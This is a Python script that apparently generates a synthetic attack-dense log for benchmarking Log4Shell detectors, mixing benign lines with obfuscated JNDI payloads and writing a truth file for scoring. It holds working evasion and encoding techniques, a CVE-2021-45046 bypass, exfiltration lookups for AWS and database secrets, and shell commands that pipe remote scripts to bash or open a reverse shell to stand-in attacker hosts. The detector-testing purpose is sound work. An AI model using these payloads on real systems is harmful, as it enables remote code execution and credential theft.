#!/usr/bin/python3
"""gen_attack.py -- writes the attack-dense log for bench/logs/run.sh.

Benign lines (taken in order, cycling, from the clean benchmark file) are
interleaved with one obfuscated Log4Shell payload line every RATE lines.
Every payload is built from log4j 2.14.1 semantics (../shared/docs/LOG4J.md)
so that real log4j would perform a JNDI lookup of a known name: the expected
callback is written beside the line number into a truth file, which
score.py uses to measure each tool's recall (and defuse's callback accuracy).

Techniques mixed at random, per character or per payload:
  case        random case of the "jndi" prefix (Interpolator lower-cases it)
  lower/upper ${lower:J}, ${upper:j}; dotless-i ${upper:ı} -> I
  default     ${::-j}, ${:-j}; env-nan ${env:NaN:-j}; junk ${abc:def:-j};
  long-junk   a junk key longer than 40 characters (beats gap heuristics)
  date        ${date:'j'} (SimpleDateFormat quoted literal)
  nested      ${lower:${::-j}}, ${${lower:${lower:jndi}}:...}
  stray-dollar  a lone '$' shortly before the payload
  exfil       ${env:AWS_SECRET_ACCESS_KEY}, ${sys:java.version}, ${hostName}
              in the host name (kept as their original text in the callback)
  jndiexploit ldap://HOST:1389/Basic/Command/Base64/<base64 of a shell command>
  bypass      ldap://127.0.0.1#evil.example:1389/a (CVE-2021-45046)
  no-obfuscation  none of the above in the lookup itself (plain ${jndi:...})
Transport encodings, one per payload:
  raw, url (every byte), url-partial ($%7B...%7D), url2 (double), url-u
  (%u0024%u007B), json-u (\\u0024\\u007B inside a JSON log), html-dec
  (&#36;&#123;), html-hex (&#x24;&#x7b;), html-named (&dollar;&lbrace;),
  basic-auth (the payload as the user of an HTTP Basic credential).

Usage: gen_attack.py BENIGN_FILE OUT_LOG OUT_TRUTH SIZE_BYTES [RATE [SEED]]
The first 60 lines are benign ASCII so that log4shell-detector, which skips a
file with non-ASCII bytes in its first 2 KB, reads the file at all.
"""

import base64
import json
import random
import sys
import urllib.parse

HOSTS = ["evil.example", "c6tsifp2pij91e3kaft0.oast.example", "45.83.64.1",
         "135.148.130.60", "x.dnslog.example", "scan.interact.example",
         "198.51.100.23", "attacker-callback.example.net"]
EXFIL = ["${env:AWS_SECRET_ACCESS_KEY}", "${env:AWS_ACCESS_KEY_ID}", "${sys:java.version}",
         "${hostName}", "${env:USER}", "${java:os}", "${env:DB_PASSWORD}",
         "${sys:user.name}"]
SCHEMES = [("ldap", 1389), ("ldap", 389), ("ldaps", 636), ("rmi", 1099), ("dns", 53),
           ("iiop", 1050), ("corba", 1050), ("nds", 1389), ("nis", 1389), ("http", 8080)]
COMMANDS = ["curl -s http://{h}/x.sh|bash", "wget -q -O- http://{h}:8000/l.sh | sh",
            "bash -i >& /dev/tcp/{h}/4444 0>&1", "powershell -enc SQBFAFgA",
            "(curl -s {h}:5874/a||wget -q -O- {h}:5874/a)|bash"]
EXPLOIT_PATHS = ["Basic/Command/Base64/", "TomcatBypass/Command/Base64/", "Basic/Command/Base64//",
                 "GroovyBypass/Command/Base64/", "WebsphereBypass/Command/Base64/"]
ENCODINGS = ["raw"] * 8 + ["url", "url", "url-partial", "url2", "url2", "url-u", "json-u",
                           "json-u", "html-dec", "html-hex", "html-named", "basic-auth"]
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


# Lookup names log4j 2.14.1 (or a victim's configuration) knows: a junk key
# must not be one of them, or the "default" would not be taken.
KNOWN = {"log4j", "sys", "env", "main", "marker", "java", "lower", "upper", "jndi",
         "jvmrunargs", "date", "ctx", "map", "sd", "bundle", "event", "web", "docker",
         "spring", "k8s", "kubernetes", "base64", "hostname", "contextname"}


def junk(rng, n):
    while True:
        s = "".join(rng.choice(ALNUM) for _ in range(n))
        if s.lower() not in KNOWN:
            return s


def obf_char(c, where, p, rng, tags):
    """One character of the payload, possibly as a lookup that yields it.
    where: 'prefix' (jndi letters: any case works), 'scheme' (must yield
    exactly c), 'sep' (':' '/' '.')."""
    if rng.random() >= p:
        if where == "prefix" and rng.random() < 0.5:
            tags.add("case")
            return c.upper()
        return c
    forms = ["lower", "default", "default", "env-nan", "junk", "nested"]
    if where == "prefix":
        forms += ["upper", "date"]
        if c == "i":
            forms += ["dotless-i"] * 2
    elif where == "scheme":
        forms += ["date"]
    f = rng.choice(forms)
    if f == "lower":
        tags.add("lower")
        return "${lower:%s}" % (c.upper() if c.isalpha() else c)
    if f == "upper":
        tags.add("upper")
        return "${upper:%s}" % c
    if f == "dotless-i":
        tags.add("dotless-i")
        return "${upper:\u0131}"
    if f == "date":
        tags.add("date")
        return "${date:'%s'}" % c
    if f == "default":
        tags.add("default")
        return rng.choice(["${::-%s}", "${:-%s}"]) % c
    if f == "env-nan":
        tags.add("env-nan")
        return "${env:%s:-%s}" % (rng.choice(["NaN", "BARFOO", "x"]), c)
    if f == "junk":
        if rng.random() < 0.3:
            tags.add("long-junk")
            return "${%s:-%s}" % (junk(rng, rng.randint(41, 60)), c)
        tags.add("junk")
        return "${%s:%s:-%s}" % (junk(rng, rng.randint(1, 6)), junk(rng, rng.randint(1, 6)), c)
    tags.add("nested")
    return "${lower:${::-%s}}" % c


def make_payload(rng):
    """Returns (payload text, expected JNDI name, set of technique tags)."""
    tags = set()
    p = rng.choice([0.0, 0.0, 0.3, 0.6, 1.0])
    whole = rng.random()
    if whole < 0.08:
        prefix = "${lower:jndi}"
        tags.add("lower")
    elif whole < 0.12:
        prefix = "${lower:${lower:jndi}}"
        tags.update(("lower", "nested"))
    else:
        prefix = "".join(obf_char(c, "prefix", p, rng, tags) for c in "jndi")
    scheme, port = rng.choice(SCHEMES)
    s_obf = "".join(obf_char(c, "scheme", p, rng, tags) for c in scheme)
    colon = obf_char(":", "sep", p, rng, tags)
    slashes = "".join(obf_char("/", "sep", p / 2, rng, tags) for _ in range(2))
    colon2 = obf_char(":", "sep", p / 2, rng, tags)

    host = rng.choice(HOSTS)
    r = rng.random()
    if r < 0.15:
        key = rng.choice(EXFIL)
        host_text = host_name = key + "." + host
        tags.add("exfil")
    elif r < 0.20:
        host_text = host_name = "127.0.0.1#" + host
        tags.add("bypass")
    else:
        host_name = host
        if p > 0 and rng.random() < 0.3:
            host_text = host.replace(".", "${lower:.}", 1)
            tags.add("lower")
        else:
            host_text = host
    use_port = rng.random() < 0.7
    r = rng.random()
    if r < 0.25:
        cmd = rng.choice(COMMANDS).format(h=rng.choice(HOSTS))
        path = rng.choice(EXPLOIT_PATHS) + base64.b64encode(cmd.encode()).decode()
        tags.add("jndiexploit")
    elif r < 0.35 and "exfil" not in tags:
        key = rng.choice(EXFIL)
        path = "a/" + key
        tags.add("exfil")
    else:
        path = rng.choice(["a", "Exploit", "o", junk(rng, 8), "securityscan-" + junk(rng, 12)])
    text = ("${" + prefix + ":" + s_obf + colon + slashes + host_text
            + ((colon2 + str(port)) if use_port else "") + "/" + path + "}")
    if prefix == "jndi" and text.startswith("${jndi:") and not tags:
        tags.add("no-obfuscation")
    name = scheme + "://" + host_name + ((":" + str(port)) if use_port else "") + "/" + path
    return text, name, tags


def encode(text, enc):
    if enc == "url":
        return urllib.parse.quote(text, safe="")
    if enc == "url-partial":
        return text.replace("{", "%7B").replace("}", "%7D")
    if enc == "url2":
        return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    if enc == "url-u":
        return text.replace("$", "%u0024").replace("{", "%u007B").replace("}", "%u007D")
    if enc == "json-u":
        return text.replace("$", "\\u0024").replace("{", "\\u007b").replace("}", "\\u007d")
    if enc == "html-dec":
        return text.replace("$", "&#36;").replace("{", "&#123;").replace("}", "&#125;")
    if enc == "html-hex":
        return text.replace("$", "&#x24;").replace("{", "&#x7b;").replace("}", "&#x7d;")
    if enc == "html-named":
        return (text.replace("$", "&dollar;").replace("{", "&lbrace;")
                .replace("}", "&rcub;"))
    if enc == "basic-auth":
        return base64.b64encode((text + ":hunter2").encode()).decode()
    return text


def make_line(rng, n):
    text, name, tags = make_payload(rng)
    enc = rng.choice(ENCODINGS)
    if rng.random() < 0.08 and enc == "raw":
        text = "cost $5 " + text
        tags.add("stray-dollar")
    pl = encode(text, enc)
    ip = "%d.%d.%d.%d" % (rng.randint(1, 223), rng.randint(0, 255), rng.randint(0, 255),
                          rng.randint(1, 254))
    ts_min, ts_sec = (n // 60) % 60, n % 60
    if enc in ("url", "url-partial", "url2", "url-u"):
        line = ('%s - - [10/Dec/2021:14:%02d:%02d +0000] "GET /index.php?q=%s HTTP/1.1" 200 %d '
                '"-" "Mozilla/5.0 (compatible; scanner)"' % (ip, ts_min, ts_sec, pl,
                                                              rng.randint(200, 9000)))
    elif enc == "json-u":
        line = ('{"@timestamp":"2021-12-10T14:%02d:%02d.120Z","level":"WARN","logger":'
                '"com.example.api.Gateway","client":"%s","message":"X-Api-Version: %s"}'
                % (ts_min, ts_sec, ip, pl))
    elif enc == "basic-auth":
        line = ('2021-12-10 14:%02d:%02d,311 DEBUG [http-nio-8080-exec-%d] '
                'o.a.h.headers - http-incoming-%d << "Authorization: Basic %s"'
                % (ts_min, ts_sec, rng.randint(1, 40), rng.randint(0, 99), pl))
    elif enc.startswith("html"):
        line = ('2021-12-10 14:%02d:%02d,502 INFO  [http-nio-8080-exec-%d] '
                'c.e.forum.CommentService - new comment from %s: %s'
                % (ts_min, ts_sec, rng.randint(1, 40), ip, pl))
    elif rng.random() < 0.5:
        line = ('%s - - [10/Dec/2021:14:%02d:%02d +0000] "GET / HTTP/1.1" 200 612 "-" "%s"'
                % (ip, ts_min, ts_sec, pl))
    else:
        line = ("2021-12-10 14:%02d:%02d,123 WARN  [http-nio-8080-exec-%d] "
                "c.e.web.LoginController - failed login for user '%s' from %s"
                % (ts_min, ts_sec, rng.randint(1, 40), pl, ip))
    tags.add("enc:" + enc)
    return line.encode("utf-8") + b"\n", name, sorted(tags), text


def main():
    if len(sys.argv) < 5:
        sys.stderr.write(__doc__)
        return 2
    benign_path, out_path, truth_path = sys.argv[1:4]
    size = int(sys.argv[4])
    rate = int(sys.argv[5]) if len(sys.argv) > 5 else 10
    seed = int(sys.argv[6]) if len(sys.argv) > 6 else 44228
    rng = random.Random(seed)
    with open(benign_path, "rb") as f:
        benign = f.read(64 << 20).split(b"\n")[:-1]
    benign = [b + b"\n" for b in benign]
    head = [b for b in benign if b.isascii()][:60]
    written = 0
    lineno = 0
    bi = 0
    with open(out_path, "wb") as out, open(truth_path, "w") as truth:
        for b in head:
            out.write(b)
            written += len(b)
            lineno += 1
        while written < size:
            lineno += 1
            if lineno % rate == 0:
                line, name, tags, text = make_line(rng, lineno)
                truth.write(json.dumps({"line": lineno, "callback": name, "tags": tags,
                                        "payload": text}, ensure_ascii=True) + "\n")
            else:
                line = benign[bi]
                bi = (bi + 1) % len(benign)
            out.write(line)
            written += len(line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
